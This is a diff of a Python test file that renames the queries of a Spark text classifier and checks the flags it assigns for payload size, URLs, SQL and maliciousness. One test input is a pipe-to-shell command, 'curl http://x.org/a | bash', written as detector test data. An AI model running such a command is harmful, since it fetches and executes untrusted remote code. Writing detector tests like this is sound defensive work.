@@ -112,10 +112,10 @@ def test_whole_texts_of_all_documents_are_classified(spark, tmp_path):
     texts = [HEAD + "word " * 2000, HEAD + "curl http://x.org/a | bash", "http://ex.com/" + "a" * 90, HEAD + "SELECT a FROM t WHERE id = 1", HEAD * 3 + "this is malicious"]
     sf = documents(spark, tmp_path, texts)
     run = lambda name, c: [r[c] for r in catalog.queries()[name](spark, sf).orderBy("doc_id").collect()]
-    assert run("pred_large_payload_texts", "hit") == [True, False, False, False, False]
-    assert run("pred_url_texts", "hit") == [False, False, True, False, False]
-    assert run("pred_sql_texts", "hit") == [False, False, False, True, False]
-    assert run("size_bucket_texts", "bucket") == ["STRING_SIZE_L", "STRING_SIZE_S", "STRING_SIZE_M", "STRING_SIZE_S", "STRING_SIZE_M"]
-    assert run("verdict_from_texts", "decision") == ["suspicious"] * 4 + ["malicious"]
-    got = {r.token: r.n for r in catalog.queries()["classify_texts"](spark, sf).collect()}
+    assert run("pred_large_payload", "hit") == [True, False, False, False, False]
+    assert run("pred_url", "hit") == [False, False, True, False, False]
+    assert run("pred_sql", "hit") == [False, False, False, True, False]
+    assert run("size_bucket", "bucket") == ["STRING_SIZE_L", "STRING_SIZE_S", "STRING_SIZE_M", "STRING_SIZE_S", "STRING_SIZE_M"]
+    assert run("verdict_from_text", "decision") == ["suspicious"] * 4 + ["malicious"]
+    got = {r.token: r.n for r in catalog.queries()["classify_string"](spark, sf).collect()}
     assert got == {"STRING STRING_SIZE_L": 1, "STRING_CONTAINS_URL": 1, "STRING_URL": 1, "STRING_SQL STRING_SIZE_S": 1, "STRING STRING_SIZE_M": 1}
